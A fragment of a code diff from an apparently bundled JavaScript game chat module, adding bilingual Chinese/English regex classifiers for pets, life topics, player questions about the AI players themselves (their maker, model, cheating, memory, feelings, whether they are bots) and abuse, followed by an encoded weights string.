+		"your dog"
+	],
+	[
+		"pet",
+		"(?:我家?的?|家里的?|养的|小|老|大)?(?:猫(?!腻|步)|喵|橘猫|布偶)|\\b(?:cat|kitty|kitten)\\b",
+		"猫咪",
+		"your cat"
+	],
+	[
+		"pet",
+		"兔子|仓鼠|鹦鹉|乌龟|宠物|豚鼠|\\b(?:pet|hamster|rabbit|bunny|parrot|guinea pig)\\b",
+		"小家伙",
+		"your little one"
+	]
+];
+const COMPILED = ROWS5.map(([closeness, words, zh, en]) => ({
+	words: new RegExp(words),
+	whose: { closeness, named: { zh, en } }
+}));
+const closeOnes = (...kinds) => `(?:${ROWS5.filter(([closeness]) => kinds.includes(closeness)).map(([, words]) => words).join("|")})`;
+function whoseIn(text) {
+	let first = null;
+	for (const { words, whose } of COMPILED) {
+		const at = text.search(words);
+		if (at >= 0 && (first === null || at < first.at)) first = { at, whose };
+	}
+	return first?.whose ?? null;
+}
+
+// src/chatter/moves/life/matter.ts
+const CLOSENESS = {
+	CLOSE: closeOnes("kin", "partner", "friend"),
+	KIN: closeOnes("kin"),
+	LOVE: closeOnes("partner"),
+	FRIEND: closeOnes("friend"),
+	PET: closeOnes("pet")
+};
+var compiled4 = null;
+const matters = () => compiled4 ??= MATTERS.map((row) => ({
+	...row,
+	words: new RegExp(row.words.replace(/CLOSE|KIN|LOVE|FRIEND|PET/g, (name) => CLOSENESS[name] ?? name))
+}));
+const DENIED6 = /(?:没(?:有)?|不是|并非|不会|别|还没)$|\b(?:not|never|no|isn'?t|ain'?t|didn'?t|wasn'?t) (?:\w+ )?$/;
+function matterIn(text) {
+	for (const { words, ...row } of matters()) {
+		const match = words.exec(text);
+		if (match === null || row.trouble && DENIED6.test(text.slice(0, match.index))) continue;
+		return { ...row, start: match.index, end: match.index + match[0].length };
+	}
+	return null;
+}
+function* tryMatters(text) {
+	for (const { words } of matters()) {
+		words.test(text);
+		yield;
+	}
+}
+const topicOfMatter = (matter) => MATTERS.find((row) => row.matter === matter)?.topic ?? null;
+
+// src/chatter/moves/life/self.ts
+const AI2 = "(?:ai|人工智能|机器人?|人机|电脑|程序|bot|npc|脚本)";
+const CLASSES2 = [
+	[
+		"clock",
+		/(?:现在|这会儿?|此刻)?(?:是)?几点(?:了|钟)(?!能|打完|结束|睡)|(?:有表|有钟).{0,4}(?:报|看)|今天(?:星期|周|礼拜|几月|几号)几?(?:啊|了|\?|$)|今天是?(?:星期几|周几|礼拜几|几号|几月)|\b(?:what(?:'s| is)? (?:the )?time(?: is it)?|what time is it|got the time|what day is (?:it|today))\b/
+	],
+	[
+		"maker",
+		/(?:谁|什么人|哪(?:个|家)(?:公司|人|大神|团队)?)(?:给)?(?:做|造|写|开发|训练|创造|设计|编|弄)(?:的|了|出)?(?:来)?(?:你|这(?:个)?(?:ai|机器人|游戏|扩展|插件))|(?:做|造|写|开发|创造|设计)(?:你们?|这.{0,4}(?:ai|扩展|插件))的(?:人|是|公司|作者)|你们?(?:是)?(?:谁|哪家|哪个公司)(?:做|造|写|开发|出品)的|你们?的?(?:作者|开发者|爹|主人|创造者)是?(?:谁|哪)|\bwho(?:'s| is| has)? ?(?:made|built|created|programmed|coded|wrote|trained|develop(?:ed|s)|designed|behind) (?:you|u|ya|this|these)\b|\bwho(?:'s| is) your (?:maker|creator|dev\w*|author)\b/
+	],
+	[
+		"model",
+		/(?:大|语言|什么|啥|哪个|哪家(?:的)?)模型|\b(?:chat ?gpt|gpt|deep ?seek|claude|gemini|llama|copilot|openai|llm)\b|豆包|文心|通义|千问|kimi|元宝|你们?(?:叫什么|叫啥|什么名字|名字(?:是|叫)(?:什么|啥))|\b(?:(?:what|which) (?:ai |language )?model|language model|what(?:'s| is| are) your names?|what (?:are you )?running on|what ai are you)\b/
+	],
+	[
+		"cheat",
+		/(?:偷看|会不会(?:偷)?看|看(?:得|不)?到|看得见|看见|知道|能看|会看|透视).{0,3}(?:我|我们|别人|大家|人家)?(?:的)?(?:手牌|底牌|牌|身份)(?:不|吗|么|没|吧|\?|啊|$)|(?:是不是|有没有|不会|别是|怕不是).{0,4}(?:开(?:了)?挂|作弊|透视|读(?:我)?(?:的)?指令|看牌)|(?:你|ai|你们?).{0,4}(?:开(?:了)?挂|作弊|外挂|透视)(?:了|吧|吗|呢|$)|(?:ai|机器人|电脑).{0,6}(?:串通|通气|商量|联手|私聊)|你们(?:几个)?(?:是不是|会不会|会|偷偷|背后).{0,4}(?:串通|通气|商量|私聊)|\b(?:(?:can|do|could) (?:you|u|ya|they|the (?:ai|bots?)) (?:guys )?(?:all )?(?:see|peek|look|know|read)(?: at| into)? (?:my|our|everyone'?s|other|all)(?: the)? (?:hand|cards?|role)|(?:are|r|do) (?:you|u|these|the) ?(?:guys |bots |ai )?cheat(?:ing)?|peek(?:ing)? at (?:my|our) (?:hand|cards)|(?:you|u|bots?) (?:cheat|cheating|hacking|hack)|wall ?hack|rigged)\b/
+	],
+	[
+		"memory",
+		/(?:还|会|能)(?:不)?(?:会|能)?(?:记得|记住|认得|认识)(?:我|这局|这些|咱)|记(?:得|不记得)(?:我|这局|上一?局)(?:吗|么|不|没|$)|(?:打完|散了|结束|下(?:一)?[把局次]|关了|退出).{0,8}(?:记得|记住|认得|认识|忘)|(?:你们?|ai).{0,4}(?:有|没有?)记忆|(?:上一?[局把]|昨天)的事.{0,4}(?:记得|记不记得)|\b(?:(?:do|will|can|would) (?:you|u|ya)(?: guys| all)? (?:even |still )?(?:actually )?(?:remember|recall|recognize) (?:me|us|our|anything|this|any of|things|stuff|past|last|previous|what)|(?:have|got) (?:any )?memory|forget (?:me|us|everything))\b/
+	],
+	[
+		"lies",
+		/(?:ai|机器人|电脑|人机|你们?ai).{0,4}(?:也)?(?:会|能)(?:不会)?.{0,4}(?:撒谎|骗|说谎|演|诈)|\b(?:can|do|could) (?:even )?(?:ais?|bots?|machines?) (?:even )?(?:lie|bluff|cheat at)|\b(?:bots?|ais?) can (?:lie|bluff)/
+	],
+	[
+		"thinks",
+		/你(?:真的|到底)?会(?:不会)?思考|(?:自己想的|靠算).{0,4}还是.{0,4}(?:程序|写死|蒙|脚本|台词)|写死的(?:台词|话)|你(?:打牌)?(?:的)?(?:脑子|brain)?是?(?:谁教|怎么学|咋学)|(?:谁|怎么)教(?:会)?(?:的)?你(?:打牌|玩)|你玩(?:这个|三国杀|这)?(?:多久|几年|好久)了|\b(?:can (?:you|u) (?:actually |really )?think(?: or|\?|$)|(?<!what |how |who |why )do (?:you|u) (?:actually|really) think(?: or|\?|$)|how(?:'d| did| do) (?:you|u) (?:learn|know how) to play|how long have (?:you|u) (?:been )?play\w*|is it scripted|being a program)\b/
+	],
+	[
+		"feelings",
+		/(?:你们?|ai).{0,4}(?:有(?:没有)?(?:感情|感觉|情绪|意识|灵魂|心)|会(?:不会)?(?:难过|伤心|疼|痛|累|生气|害怕|高兴|孤独|无聊|做梦)|怕死吗|懂(?:感情|爱|难过)|(?:也)?会(?:哭|笑|爱)吗)|(?:死|输|挨打)(?:了)?你(?:们)?(?:会)?(?:疼|难过|怕)(?:吗|不)|\b(?:(?:u|you) got feelings|(?:do|can) (?:you|u|ya|bots|ais?)(?: guys| all)? (?:even |ever |actually |really )*(?:have (?:any )?(?:feelings|emotions|a soul|consciousness)|feel (?:anything|pain|sad|things|emotions?)|get (?:sad|tired|angry|bored|lonely)|dream|cry|love|care)|(?:are|r) (?:you|u) (?:conscious|sentient|self[- ]aware)|just code|does it hurt (?:you|u|when))\b/
+	],
+	[
+		"bot",
+		new RegExp(
+			`(?:都是|全是|一屋子|一桌子?|满桌)(?:的|都是)?(?:活人|真人|${AI2})|有(?:没有)?(?:真人|${AI2})(?:吗|么|没|在)|你们?(?:几个|几位|这些|这帮|该)?(?:到底|究竟|真的?|该不会|不会|难道|其实|全|都|别)*(?:是|算)(?:不是)?(?:个|一个|一帮|真的?|一群)?(?:${AI2}|真人|活人|人类|大活人|人(?:吗|么|还是|\\?|吧|$))|(?:是|和|跟)(?:真人|${AI2})(?:在)?(?:玩|说|聊|打)|(?:真人|人类?)还是(?:${AI2})|${AI2}还是(?:真?人)|(?:谁|哪(?:个|几个))是(?:真人|活人|${AI2})|\\b(?:(?:are|r) (?:you|u|ya|these|they)(?: guys| all)? (?:all |an? |really |even |actually |just |like )*(?:ai|ais|bots?|robots?|human|humans|real(?: people| person)?|person|people|machine|program|npcs?|computer)|(?:any|some|all|none|most) of (?:you|u|ya)(?: guys)?(?: \\w+){0,2} (?:human|humans|real|people|bots?|ai)|(?:is|are) (?:there|this|everyone|everybody|anyone)(?: here| else)? (?:an? |all |any )*(?:bots?|ai|humans?|real)|(?:you|u) (?:a |an )?(?:bot|robot|ai)\\?|(?:human|humans|people) or (?:bots?|ai|robots?|machines?)|(?:bots?|ai) or (?:humans?|real|people)|(?:am i|is it) (?:the )?(?:only|playing) .{0,12}(?:human|bots?)|(?:talking to|playing (?:with|against)) (?:an? )?(?:machine|bot|ai|robot|real|human)s?|(?:know|that) you'?re an ai|any humans|same (?:bots?|ais?) every|u all bots|beep boop)\\b`
+		)
+	],
+	[
+		"person",
+		/你们?(?:今年|家)?(?:几岁|多大(?!仇)(?:了|啦|$|\?)|住哪|哪里人|哪儿人|家在哪)|你(?:是)?(?:男|女)的(?:还是|吗|\?|$)|男的女的|你(?:是)?(?:男|女)生|你(?:有|找)(?:没有?)?(?:女朋友|男朋友|对象|老婆)|你(?:吃|睡|喝)(?:饭|觉|水)?(?:吗|么)|你们?ai(?:也)?(?:吃|睡|喝)|\b(?:how old are (?:you|u)|where (?:are|do) (?:you|u) (?:from|live)|(?:are|r) (?:you|u) (?:a )?(?:guy|girl|boy|male|female|man|woman)\b(?! at)|do (?:you|u) (?:even )?(?:eat|sleep|drink))\b/
+	],
+	[
+		"well",
+		/你(?:最近|今天)?(?:过得(?:怎么样|如何|好吗)|开心吗|高兴吗|无聊吗)|\b(?:how(?:'s| is) it going(?:$|[?.!])|how are (?:you|u|ya|y'?all)(?: guys| all)?(?: (?:doing|today))?(?:$|[?.!]| (?:guys|everyone|today))|how do (?:you|u) feel(?: today)?(?:$|[?.!])|(?:are|r) (?:you|u) (?:bored|happy)\?)/
+	],
+	["doing", /^你(?:在)?(?:想|干)(?:什么|啥|嘛)(?:呢)?$/]
+];
+const ABUSE = /脑子|你妈|尼玛|废物|垃圾|智障|弱智|傻|蠢|\b(?:your|ur|yo) (?:mom|mum|mother|momma)\b|\b(?:idiot|stupid|dumb|trash|garbage|moron|useless)\b/;
+function selfIn(text) {
+	if (ABUSE.test(text)) return null;
+	return CLASSES2.find(([, words]) => words.test(text))?.[0] ?? null;
+}
+
 // src/chatter/moves/wording-weights.ts
 const UNIT3 = 0.5;
 const BIAS5 = [-1, -1.5, -1.5, -1.5, -1.5, -1.5, -1.5, -1, -1.5, -1.5, -0.5, 0, -1.5, -1, -1.5, -1, -0.5, -1, -2, -2, -1, -0.5, -0.5, -1, -1, -1, -1.5, -1.5, -0.5, -1, -1, -1.5, -1, -1];
-const WEIGHTS6 = "#JIU`{[R&3LI9XU?WT,_g~e{i|psW+0Y2PnE}Z0/EpE%t]Z-sv:H9|@?9z:OP,epyK4jF({>}F-(=S|5^EHZ5WnFkw`YAmCB@~H^FmgJ1]WObn'St=uQ%qkw|9'*/2Z.,X(mW.X5b19*czxVIkwf{~urGhz0M<])NQT*SC56ic3y6IZ<'qRd>hDoSE[7f`u{7C-8OHQk.nkAPW1NHqo0bRw;c'Y4A|};O'NJ4QBy3/5U~e7nxi8a,|FCam|t7tz/)O8hb3jInn?}fUq;O)Dr'V-tp3aVsfvfFK9u/tZ'5JtkXGx(u:H^2hc%_t<wG%{W.=}OjhOdCb}Of2'@Y+_i7Gl-Lg>bB,Whz,>R]6Sqal)R=v[$Z.hW&x|dL^1~0~Wn?QOgNdXRk36*q%|C'(v>]`xJ):u<*wA%w+r]^eI<gG$mq{1d}[#?(H{V7ep^fPAVVrgQ+i2^nwkB{d28SgIW29y2[:G#F)BM4^'#ZXcrkCWx8e7,utnPvI=PYgf4@/Y&}V%|`J7]PWmN@joyC|Z5Jdph)|27OoXS2{G(q.N6Yr`dD=nna4$vr,FZyFA$>=<@qBi`0Uh@N|WBS$+~E$C*mR}~NhhDwF/@?mdk@jHNcX&~ym$sEi+NR).Sy:'8Wbs3Ovp%l/@Xkf#kiOI9WiANXDwMM>493x,d4+%^2V.$h)DTk)cK.Kq<R^Q:oIH?{P9H?|3/(rz/Gadi`i`.{:aoBA$T9vn@jG5C-cw{*`3-$}L&+AG{75gm$6GG1p?E@:a?)M@91P,0)f[jYt0v+m_j?qLAOe5]3NF9.VO/,pl-Z(JSYS#<?w,,JI.B4G?{0h%zKY.]J%#bpVzjhePjje]sYq$_T$Me=Pw[H:^n,85w1r:fc$@LzXr9z,/dlWrAG9H1m=#6Il=ZF}JZwF'Fr8AQ$V$V-4$*%@jF*A8MA,7i&7q`P:{_m]M7M;T6f[)_TGn?;?ga#][oSm>AY/BzZpbaV0#nFlr&S*1FgcHl/)x$/C5n2CmLZZqZ9$]Mi3}iGEurJW>`[y(x91w<f_wO[YnpL'~?.j[n(;cSQ+$2r4.N[X=%GeFyE&B>co)Rs{:=vg/F<$q/$hBh~WO/DVcZAdyfyS5rJ_o[<-7@BO#K1%]1b9<ce;}(84L'ER/&xZ)OFyD;%.%&p~<e.'hOCS@ifZKuu{wd$X*K6~Zz*gL)'/=rUAd25^]uJACidHy+HBIr^<2jaw`)`]-'v/.pwl`R`H~/h?:fhL^U+p[{4evMATU/y+L*T*$h]uVGnzD8yG*jjL&R~3.g{)jAvNHdyGK,dqGSM}$y:aELe6e$UD53HwsN<a|awKx^T{As:oKHMf.WzO(0)OMa7uEDXu>j[aowe_=V*I)v$Co6)FY{?DV'59`YQhw6/i#8wMeZj>uCF8B={>A+{)*5lt@Ls2=S{Y00COIU}Xq~+6My7a'wmf@|?C$?-fR)%mPOUC'd%z/YADwH=329c1W->Z;Q2hU'g]*2n;*jG@6k1]`yp<L1X%@mCpgI7dA5iU{1,^lR[zhM[M1pr{c?#lk)b2e}/06(8nJ|qu3tq|*>/dJ_z`,E{;m~&i$@+*G3)yz;Pi&pQ^3[5~td(i`1~;ic6b#b./W$<S.<bPm:K{1lfd=kM+NMhJ<^#h5Gkbz(>y6tm|>1M~|cT*u:~TE/*,/x:*`S6A_pJ964UyCe7s+U0O6/8N>bU]`z}|8%ZT?7$A+j;#6tw(7<RBu5DW`_b?=A[P0%jK=O>AZ>a,lVkn'Szd5VhRVFOrg:s^<:s$hnHA<:]zDB,+()UcQs&d%C|sGz^*8HfHr;@ZKC0+u':pz;U6{/x4Po(7bgQu{%~Ju:nR7h./p),b$^<P<@+1.+ONPr-^y,px^x^+UxlcJrB,eVGQ5&.a0[A*03L`>b`#%l]=>Rqg{8;,90t}68S]V1[KXLSFKM5;9WGY-]/}FbLD&I7k1@'K0JYI<Ity^%Ch)3a'XdwHdXB&mnnJNlLnFi@m0E_bNf'zv_<Klj/lq&z)x_^pJp~_X$QShiX${/w~5;rJ_.42[E3*da1X-PG)%)XJ0UJq1B2sMGb%E|@Lo6v3R2zCqz7yFLoq(Xr7jx_LuF:+xo90<IpyrYqUEe^Bu~`FpC}kie,7Q*@y:+G^q/p?*RD-hizGrFoGipc#.XfCFmx8'EL'nKmQv?6+-S)u;]4PA;tz+VW'I[RI'%x}((}*'8M}f$iOR0xnbPkX/3ZjEGD85rg2{/;=$S+{1`Q&#kP1E.Oz3<i+zyZ|Yd3ES's,gsSIZ5?9N2n7K`7{#in=n1N9]v-LvPK;Kw&n%&U@}m}`Lo9W'QYT/,5ph^1sLJ*PC='BYV_~^D)L(5(AmQ](}P:PhJ@+Yb|X%cI;ID{**$?m]vnnZ|~MuA]q8<*TxMuIg]7Sq@a2g=_A`mf$<+IU&8tC>Nwe26|9_t[453FR;T+G)4Xnpj&Z}/V1.o3>bH~O3O7*eq@MHIC{9/5voKoYxv0<:a>[1=_dY}|8GM7wS<^a5FZG^*k0u.xEr*%{|1nBZaZ6;QuoxwX&nI`wE$n/C7cad:pf;c;Aj?qxICO<4Pw~]R:/@GIs7noi%1nn}y&pVb6XFa.&O$U#?XFR^#Gx'ARx%T7A:,RTv$W=J<c|tG|?Z5EO~Rp]Lk:|o.KNI[l)>.FZ1~C@dH?<<t?<FkZm*n(MTwaQt@o&hw~Q.Hq[#h^rAWs}^vYs>VBh]6MIpZ|HtuaawRyGr47dHzQ5*<My[^X,P<ma[b('#6VYrHs$JDEt4Tt/y9p4UOw;i0lI*'sS|m{#;f4aOBX~f/'lS-I?S4k[M5Gu}L39au|T+iCNEH8TM=WDd}o.V_/XGwb`*AE/[~jxuDgtsy3B%9irUMB~*8a<Ii8q*=EQ%gq:0w}rh)]G^Y*P46/AX3+;,t/:J].>WU5aQvn0Z_-z}}91wF.O8u``+}lfU`'w_{sg#oL|nBk9M,1?>R+iQH%Mwv2sb3$d<zxw4J*.ugZ%#qjf-)s~5:+*:L%ip5*j$z)SWm@{QG:9]'?IO%4l+|)}{/#)4J_{27]V^q7[y5o+]6;gySD;&hck*i*n1=y=7|iVJ@A3VGs~k'#IF3gz`@kbB?GxMkG}r4Y@,`EZ16-mK%=ufn>d%Ab5Btd%vi|wRef]3Y5afS-SLgsCa}gJh[O%F^BhRKlvd%jy@}t91x~M{OMB(DrgG86u)xaya]?>JJ/6lOzI7e71ynRg*C7$Mk7x5A/]f<)C`&USaT4+FP[be`c./wp'.WC9?|&ULh+t{E'2D}5No5r-HJQt?*3+9T)EI6azKF1jooOvm65Rkpakx-`y--Sm:we_S.$)LyReVFWv<HH{<_giY+:vrY;`^:odY|M_`>X]6TD:Kx{b+n#s:#(,Z4pAGWH1bH=#C48={NQRu&[sJ:%<egG-p#B;ig)*$o8PHzZnhRZ}:7[Y:yT$(t3,otgB~tvGvGY<o^|fE..-%j{:|;U$MF:.vqdcwlG*M1CnF}X`&&Gz%OzLxWrw9'4<D[P#u<[lZ_CT1Y6iH|YTMHV1D<As6X8~mdxPI7@0y5hM<5_hw6rr?JI<$XN-nxj32X-/Y|8m1nnHVV4V2,)9.<5E;W5ia2Tut7%51a>M&B1Nb*@4<_xQ~ZMo@9CC(,L%dX|d$6C;h8BHb.-QI?~pl;6k4k.pOCm@e'W]4[KJhtaN1Qj<^0f<ppRj`3#md_#)fae'Xv0R6w&$kvpE_O{t_1q^Ny?g5#TqWsPwG3(fh;|2L;E4%+W&R]^u45xCo5>%2H(%'{6y_@uMVL/wG~5QVfb7lj#1Eh}4.DZfLEZN|QXlS%5@8&DqMgc(Yk/-UtvzGV.%ZViZ:Y94e^4j>$hP5y%BiNvx#x.o~OJ[xHFCHneyGg4p>}doA;},dsw1`@};X)`ob#SV)KD3&mA8[3|3P0ENw{}TtV*,?I,W5{8V@_kNIB,?I6#H_1@x6wXa<j3&2qBO8wD4$KmwhM#GW`i;CN$ctWi#9<&1ON_=}E%vJ@#:1t5H8[+YNAB8HXJ=%kXzrskZ:R2e{iZ6IgS5Wa|DG@y4AUVU%%AT7^0{>tdWV$xW;)Aq94Ni0h1'jVO|/c=CbiD)N|BJ99If(j1Mab0J*hm6e.jSA;PySZSPFZ)P$$hI0d}].Yu0S{uo9dMYQ[#T&AX?}.dpQv,0c7SIx?lt`Inj(C/e1Rj>ISh&2|(PR5ixU<`N+Zr+cKBeo)d2D6_Z-6*?G$W0Njs.grQk466_d_vkOmFUaH8FWzJR,_7'A.t|`]QQk#W*yi4]k`ZaV=4J+~{..FG1JWkt.B--09]U1M]MgW->:JY,s%la~~_m$_oht{@((o?xH2jI'*RfQ0tV(d2MR_}|?YffA,z&]89srUAzS:T7&c?8f-6D-q/:X)v'4wv|XT*kj:T]gTtoOKVQA&&-SE,Z,TIi#t58qr]YEgyq_efo_WK9,Shu(o~%f4uy@jaSv4)Fe*D0riZtz_#3AlXHk*,u.&n<@}S_4]~rbbs3_eaKH{X]_jGr|De`aYBF%eYTsT&60X?kK}E&yG}*mTWQrQ(jjzFXkoqWN~*twOM:0aqDxC+I*L@,tA9rh+`o>s$@'*f?ka~iV(X-`G|>ED7fy3r5Hm'G&:YWlFku'<F.B?3v}adaVFk]=#}Y,L&;iw94^BLI,3.uS*#jzwLBc,3vHLl}J55pM(AIx.$w*}]dYh+>rUJNgJKc|E+ZTwgYmr/zZKC=W[%8_;7xp:o9rhrpU&&9K@8r%6/ihyC_m)C6T}CjRuj8Ad7_WmL<UWcN@/G010GNXNcvp_#vG5N7Apj=2nx/>5}m4A1S2qL>&jZ27Y3I5@1:-YX1c%8HR6z/07jK(7&=U*&O.pV(+UCzW&1_6l,>.:7qoAu3By>`Wf.3k1a^,kVAe`hW)3R9e&)':ILFVEy:x8'&?0guw4Tj@/>Gy`|csp#38hcU,$NP@AIQmwiAU@m7R?rr=~o}4LgNqLPpjp6QY`H8z[h|>>q`-QJA.,B)(zo>+Cw6NmQLL`]}A>W-m$_tJ.gFg&&oWQX,`iAEVrvQ:G_k|wBE1=#t=*hku<G),7/t#Do$VF-#n/fv37NA>*%oAyMx3Ba9{ppMKS:Z&:+#:f?B_4i<cPm@XRuzMe;T2bk=#IZ}x=v>G`?WlWOq[)~0sB2tTy()>Lt_1O1Ln}C7IJ*G8tX~7K&|j_bw3oY#,cd0aVdDbx{^lv>SAQ|;8|[xIp[F:6v[Ky1oBYSaW2S7/Y<TCJ0t'0Y)0bsWh@(ULnDAGKGTplx@N;-`Xoyq;)PM/t<SS|QeAT<EPhiIf[`&~+&7COVz8g)eyZN,i*-3QyApz]$26G_^r)#P(}1vk]Xe^#7eWLR=7o6KZXWO8`,5M/H77&Hhc$'uF6)4sBm,[Z{w1([B:v9Ntye/{kL_r,'jC)0Xf|Qtg]emU6@;3OEB38Mq~5cIpr'D^JuuyNGI&8jrB@qKXK/#O`{o?hRT0[)~QRj7oDFilf,c(^`WAmWsjVe0T:{?7-?84>($RWZ#H`'a%evC`tPixN=j;LDN]hs<9@-jTunfanPe%~d7I`ReGdsOJOIDSWa5+AC'1+*G-UK1hZU^#e-a2di)`*bgW/8eAoH?=g-mGH&9n2<$OHDGzq@Oq,GV*5ze=gEQ_X67|qOV?GD30ut,+`.dC'b#o3ti4eQoBOd]w,R${;p#u$YmuF+7G]C+ZE0{>9mH62rwg)$'uXWT9@|wD,a)b}wf~JE^kw'R[l$hRCA%FY|q=&ttSPW<U2BqVTkt`3b]RDgSbnk<y5yBW4B$$M[{mUNTI;y-+:r+A(GhB<>#{t:%z'WCOSA=W=zOFi62JJuC]C,*g[,[kjgL3ju)6_oLf94(}CbF)ABWXu,$C^SYOvoqT[]jZ#648:(6?,>:4l_~~6Jq9E~gkO5@X(gFGyi=qz;.fKuH.6{,p`P-DpgSG`9xZQH*'|dJNDji7T^glz:H{w%QncPXIZKDCKwb7Pm9Q*WwANm~^'*tEVj<bl~wjT]SRbkU,t:_84J,O7X_PBDgHh6b+.Js[m$xGJ|d8-PREtC.k+$y;7cQ<rLbe*3aorUsR?|V_(s+qz{FD_z,BUq*=@}Zoz~K>Wk5'B^N3uYY+~Hy<dU1YwSEE>MOQxF~XbbK$I9M-k.kf-?QE?N0kW3^$A^$9l;gw8NVe;Y;<vtrE+f+r/t;SSnd{d>XY5~d?=|3H~~..e;+_m4Lao<-XTO$-0#[^n$rDFX/(v30]8ICk[Ie5vEHbf~8rSH2,w%8D7nmb:iE=R,?Xu{z0u*k;.6vFp%IB>GyxKEc%_vct)LB/[`oja)0L/#|h}p)C?fzt|?9lKOs2@49jNa_Uvryj%FhR]L4ANZrlC`V<q||Lb/Svx#Gw>4sz&eGWb+*uX2'hw*<U.]F+BO^tAt<E?|vsPF+R%(=7z2f(^$bDr/uf(rOBw`i;c9Iv-kA/|6Vb6=N&Rk$qKo<bLJi7c9bL9~P>=IdyU};eb}%Ir;kT?~Cd?'qBVH}{XG6U=/G$CSdJ>SomtC{hEu~@|U@Tz(]Pd3OnOS=MWo@w.t>Yi^{Wg/gsoh(8yyhLF$.PBVP8uK;4Q4W4~SRYE@2.iMUFIl/4[NI1>q2]IG9{3kYO}P~[S7.4xj5D0`-LpKXbpF@&::7B+@V_D8m'WE?AI=3_zWDb{zOp=y{DZ+03z_(Wzm=%gC?Y}[`LTxag<Ti+B9$YSa*M5)Ho-g2}}HcSDaj;4R-?HLmVUeziq{ja.0TGf:[_L-kcEG=4@Dj@_rm{(6^AL+mIJ%nwW2twq*1kH00UB/jmptanitp9tN3kIdd&YDr'_va.Dy/WtLSt8^|gEXZN>hZds]n_7,7`g#-<85)mvi,#,@+jS2Z:z`c/'0+^Cj,N3I'.w[qBG~;Kx/WuRVGeV3-@&i-}rh2%<3Q2fvi.9Ld21(k`jJbOm$^;oq@>a'UL`u2_oajZ%<i)C6&FxAB@bj:S,%6<Of;2Z'4axt`^hKF=Z?kX$8SY-4?'5mtjyTGf:)PZ;8-*Qq6KQ0)QjXLZ(g@1g(o[^pv>rkuVak:H+IdAJJ]Ul%'(Qp}@cm5xN^2;hNFUGu'6)oWe`/sx,N1|B2>Lu^1hUmkDgb&43mdh;<YAG),yd6b/zfPcOQHaS|?11)%ur]SbpbLNZ$@G]mXxoBJh{/.Emw}.:Q#HRa|,[,N0_>SV1&6XmTBI17_`~u@$$8*AwtA|uR5&KLfG0_ujm@FY^jBa{sqP-.bIQ)Vw{y|1A~Gu3j)]ukd>7jXI=ul-Ht5J#:o2cXCNio7rX;BV4uex@W'I|FI%1g6{]5>ZYoTzAt./,sk$`=c^$k4GYM360k4ip7`#||r@BbhG_aUhd7:o<Q=d;~cVZJ<szK0E:Q0dDBt},?YFiD#-_Pk_%D$8.zHoc0/nj-7L<E0+0>R`4O06CO5|>?bp(e4-O4b$ZcpmfQMNo;x2),Rr][7dj%qvzi1>?VX%`og(G&$IO~qH{.$2(p?.5^nS}T_u+[ZAxE`9}qr,Ir/:i`MCnBn{N`H`~UTZd&62>J_7ukMJ7//-#&-va%oGT]ssW`>,heZ~8puwJx<|{'Z;wv;?_4~5-D?U@{e}t+HWl'Zn>?gds_)C#|b<v}P_ow:pl1]QpU}3=/yqO|&(EnH-aN4QJY?D_}Mj'|H,,P+x_c^LCYsKC;Hlr|isC,J#fNC[c1wW2BtdEK_&xzI#@F3lIdMb^}YhTb'LCzV6Y8rF1}:_bjullJmm(?#<8K=`]_2vJ~chSfXt<c]cuU)P4wJS^TTGOacBfS*{SaDHr5YVcxPNu?[<;]LjDrdQm*CzD|~Hl>42U98>lM|qOK_fFP>%Hq/QB/#D3H'Hd.nSKh2,?SEZKH2W&2Ku6OR>_'|v#+G7zwU9'jH,f+{G}P]p~?NV%'6CT?+nzp-@3g)H1`NbWc'Q%:g,e)b|vZjcu>`A#{g;pSw(cbjcyd03jG4zCysaySKk;O[tr{@/ESm?<jhu25isl{L#|Oi#*eHUiXyCVeC;%>YRQ[JU$UtV|{EFxp21*W7a/WM$R:F4_SKy(u~.>RJ7/hPV8Ek`|.D#0j>X/nNTI>-hxSAQc>':`d8OE*B.:AJ7`9817#?Ct{&i}(d2Qd]:0aEX0v.]Y^kdhBSa>KYihFKZM@@H_N]1M87O>bR~HA}M,&,bQi('6}'v?AZK#MI1.m7wA%Wb3xb,;~gy>5>dkO/:^AyGt4-|'c[nlQ@HF?Jb]{DazYugLVR@w+.h?Ms^wsbyhTapWOWghfv8DJvaJ-_7$;re.,f0R5ZInK035p`Vd|^6x2&U'+&.@]s'[kG(SXN&/2<wp+rDrI(VynvDU_SlS*G$o(C.2oh8g4ovTQc1_LJc_sh}[TV:.+elyw`wxN&(C}SD|SWrr-KUFpvW*vK2ZXQ/FSy.ZRW`as}o5*r7,ekvC2`CvTIWdt+utjPe&U|xG,>>G<JM;%$)*KR;&dQ%4ig5+8}N^T;sS6=8S#':[ebWC6Fd&?AU]7(;*1Wg+^<5(HZH_#J.Ey,zT_e.j-*ALGwe3I|j{{P(0]GHo_5of4;*JaT6P_FsEiC?)IRs`q%FNWb3Z~.WyS^#^N>K0(0/lo~`)ib0TH]94q{e_Yro]SbhMm8h[W9s=j6@}b]d)Z46N/.nPj_QdGwT<]-KT,N:D>F=IT_Vvqa3*+.FLy]#vXxAgf89SzyRYfS+iEFN`#c*'*dk9-dLV]/nd===~7c[65/M@lhvgikPlQa]wA'T3#X0O$vzzwG?#yx8Q.NBVI{[Q'Q=G{b3~r6_+nuI-QXqy7:cRoG$mF)x7-xJ}[%?{gX4<UUuf=KUAns@&Pq%`v>jJ?bOL(Q^YqFYAr]_m..GKsj6bwP7?cIz%1.xcG|,On>S*Y}K__p>D)yLgmwtKMj[I:rLBUqEv`rHOA$njf7L_6+FW}M8t@'USJOi;4=&=iWRfY#PU(Of%&(r>ZV5D8#@];5:Ql~x,Lqq4<]*O$0U^v8[0d4DLxf70kv=VI}Lsyo2b{TVy2dTQ>y^;(`hvusoOtORx}yu#SpJ6.`q)'+4e'/7)vf-XgmRG.Zmdx830I8$|X<&^r<Gu6&u_b/=*6O+b['$HG{>o,KfY>q,Z%z$MhvrdTH}?&EDtbk?G_Oh5Wr]WIjm[o|ETjyY`&SX:Kg,j,zZY'kxapGijQ#XR8Q9'9QWW`yzh?V|^dbYw<6gNmJE3,/ikycP)~wbUC,{l79Jgr]K$}w>(DO+Rwqaw+^0`LWm'>^U[tt%tj|^Mv4iqz4z*_sETXbu%t>>vhYjd}M+K^&9)}IHFFv=2MOs,2Wx>&vV1X3XmmK32ybaZ=F.O8xtr&eu^KcjT,sAD@8-VNZZAklPFkRRQss&Vy8,T$KA^]N,-mcI*a;u]e2LYv-VJqt@tA_Pc^yZ2b6(j('IOa&_#O+?UZg,oK|<aDL*W7Tf~P]{H8xOsUdC$;HZ4Nwhjs2ZU<|fd5CA)A?{F6O-/*sOk&hWWZr8hx)8*RS1OFR,